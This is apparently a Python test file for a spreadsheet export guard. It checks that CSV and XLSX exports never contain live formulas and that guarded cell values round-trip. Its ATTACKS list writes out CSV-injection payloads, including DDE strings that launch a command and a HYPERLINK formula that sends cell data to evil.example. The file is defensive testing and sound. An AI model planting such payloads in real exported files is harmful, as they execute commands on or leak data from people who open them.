"""No cell of an exported file is a formula, and what was a cell comes back as it was."""

import csv
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from tests.gui import record_office
from tests.gui.record_office import Office
from tests.services.conftest import WANG
from workbench import exchange
from workbench.exchange.guard import STARTS, guard
from workbench.exchange.values import unguard
from workbench.store import meta

ATTACKS = (
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"Offer\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "'=1+1",
    "=1+1\",=2+2",
)  # fmt: skip
PLAIN = ("-5", "+8.5%", "-1,250.00", "+862155550123", "1e5", "Li", "a=b", "")


@pytest.fixture
def office(tmp_path: Path) -> Iterator[Office]:
    with record_office.office(tmp_path / "office") as made:
        yield made


@pytest.mark.parametrize("text", ATTACKS)
def test_an_attack_is_a_text_and_comes_back_whole(text: str) -> None:
    guarded = guard(text)
    assert not guarded.startswith(STARTS)
    assert unguard(guarded) == text or text.startswith("'")


@pytest.mark.parametrize("text", PLAIN)
def test_numbers_and_texts_stay_as_they_are(text: str) -> None:
    assert guard(text) == text


@given(st.text(alphabet=st.sampled_from("=+-@\t\r\n＝＋－＠'\",;|!A1 .%e"), max_size=12))
def test_no_cell_begins_as_a_formula_does(text: str) -> None:
    guarded = guard(text)
    if guarded.startswith(STARTS):  # then it is a number, which computes nothing
        assert not set(guarded) & set("=@|!A'\" \t\r\n＝＋－＠;")
        assert guarded[1:2].isdigit()


@pytest.mark.parametrize("ending", ["csv", "xlsx"])
def test_an_exported_list_holds_no_formula(office: Office, tmp_path: Path, ending: str) -> None:
    store = office.store
    for text in ATTACKS:
        office.rows.pulled("Account", name=text.strip(), description=text, owner_id=WANG)
    with store.write() as w:
        meta.put(w, "role", "manager")
    file = tmp_path / f"accounts.{ending}"
    assert exchange.export(store, "Account", file) == len(ATTACKS) + 1
    if ending == "csv":
        with file.open(encoding="utf-8-sig", newline="") as opened:
            cells = [cell for row in csv.reader(opened) for cell in row]
        assert not [cell for cell in cells if cell.startswith(STARTS)]
    else:
        sheet = load_workbook(file).active
        assert sheet is not None
        kinds = {cell.data_type for row in sheet.iter_rows() for cell in row}
        assert "f" not in kinds
